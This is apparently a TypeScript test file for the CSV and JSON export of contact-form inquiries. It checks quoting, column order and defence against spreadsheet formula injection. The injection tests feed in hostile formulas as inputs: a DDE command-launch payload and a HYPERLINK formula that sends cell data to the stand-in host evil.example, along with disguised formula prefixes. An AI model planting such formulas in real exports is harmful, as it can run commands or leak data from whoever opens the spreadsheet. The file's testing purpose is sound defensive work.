import { buffer, text } from 'node:stream/consumers';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf, jsonOf } from '#infra/inquiries/export-formats.ts';
import type { StoredInquiry } from '#lambda/inquiry/stored-inquiry.ts';
import { character } from '#test/support/measure/character.ts';
import { storedInquiry } from './stored-inquiry.ts';

/** Cells of each row after the header, read as RFC 4180 defines CSV. Every cell is in quotes. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted = '', end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(1, -1);
}

/** What a spreadsheet makes of comments. */
async function cellsOfComments(comments: readonly string[]): Promise<string[]> {
  const rows = cellsOf(await text(csvOf(comments.map((comment) => storedInquiry({ comment })))));
  return rows.map((row) => row[5] ?? '');
}

describe('a cell', () => {
  const signs = '=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−⁺₌⩵';
  const starts = [...signs, ' =', '\u00a0=', '\u3000＝', '\u200b=', '\ufeff+', '\u0000=', ' \t @'];

  it('is text for a spreadsheet, in 300 formulas however they begin', async () => {
    const calls = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1)', 'A1'];
    const formulas = starts.flatMap((start) =>
      calls.flatMap((called) => [`${start}${called}`, `${start}${called}\n=2`, `${start}${called}\t-1`]),
    );
    expect(new Set(formulas).size).toBeGreaterThanOrEqual(300);
    expect(await cellsOfComments(formulas)).toEqual(formulas.map((formula) => `'${formula}`));
  });

  it('never begins as a formula does, and holds all of the text', async () => {
    const anything = fc
      .tuple(fc.constantFrom('', ...starts), fc.string({ unit: character }))
      .map(([start, rest]) => start + rest);
    await fc.assert(
      fc.asyncProperty(fc.array(anything, { minLength: 1, maxLength: 20 }), async (comments) => {
        const cells = await cellsOfComments(comments);
        expect(cells).toHaveLength(comments.length);
        for (const [i, typed] of comments.entries()) {
          const cell = cells[i] ?? '';
          expect(cell.normalize('NFKC').trimStart()).not.toMatch(/^[=+\-@\u2212]/);
          expect(cell).not.toMatch(/^[\t\r\n]/);
          expect([typed, `'${typed}`]).toContain(cell);
        }
      }),
    );
  });

  it('is left alone when it is no formula', async () => {
    const plain = ["O'Neill", 'a=b', '1-2', 'x@example.com', '', '你好', '🙂 +1', ' a', 'a"b","c\r\nd;e'];
    expect(await cellsOfComments(plain)).toEqual(plain);
  });
});

describe('CSV', () => {
  /** These columns never move: spreadsheets and programs of the owner may count on them. New ones follow them. */
  const header =
    '\ufeff"id","receivedAt","name","email","phoneNumber","comment","suspect","repeatedAt","notifiedAt","pagePath"';

  it('begins with a byte order mark and a header, and keeps every digit of a phone number as text', async () => {
    // Not `text`, which removes the mark.
    const bytes = await buffer(
      csvOf([storedInquiry({ phoneNumber: '+12015550123', pagePath: '/contact-us' })]),
    );
    const [first, second, end] = bytes.toString().split('\r\n');
    expect(first?.slice(0, header.length)).toBe(header);
    expect(second).toMatch(
      /^"iAbc","2026-11-21T09:06:00.123Z","Asha","asha@example.com","'\+12015550123","Hello","","","","\/contact-us"/,
    );
    expect(end).toBe('');
  });

  it('is a header when there is nothing', async () => {
    expect((await buffer(csvOf([]))).toString()).toMatch(/^\ufeff"id",[^\r\n]*\r\n$/);
  });

  it('says in its last cells why an inquiry is suspect, when it came again and when it was mailed', async () => {
    const [row] = cellsOf(
      await text(
        csvOf([storedInquiry({ suspect: ['fast', 'name'], repeatedAt: ['t1', 't2'], notifiedAt: 't3' })]),
      ),
    );
    expect(row?.slice(6, 10)).toEqual(['fast name', 't1 t2', 't3', '']);
  });
});

describe('JSON', () => {
  const parsed = async (inquiries: readonly StoredInquiry[]) => JSON.parse(await text(jsonOf(inquiries)));
  const { lastReceivedAt, expiresAt, repeatedAt, suspect, attempts, refusals, ...always } = storedInquiry({
    comment: '=1"é\n🙂',
  });

  it.each([0, 1, 3])('is one array of %i, without the fields that are empty', async (count) => {
    const inquiry = storedInquiry(always);
    const inquiries = Array.from({ length: count }, () => inquiry);
    expect(await parsed(inquiries)).toEqual(inquiries.map(() => always));
  });

  it('has the marks, the repeats and the time of the mail', async () => {
    const more = { suspect: ['fast'], repeatedAt: ['t1'], notifiedAt: 't3', pagePath: '/' };
    expect(await parsed([storedInquiry({ ...always, ...more })])).toEqual([{ ...always, ...more }]);
  });
});
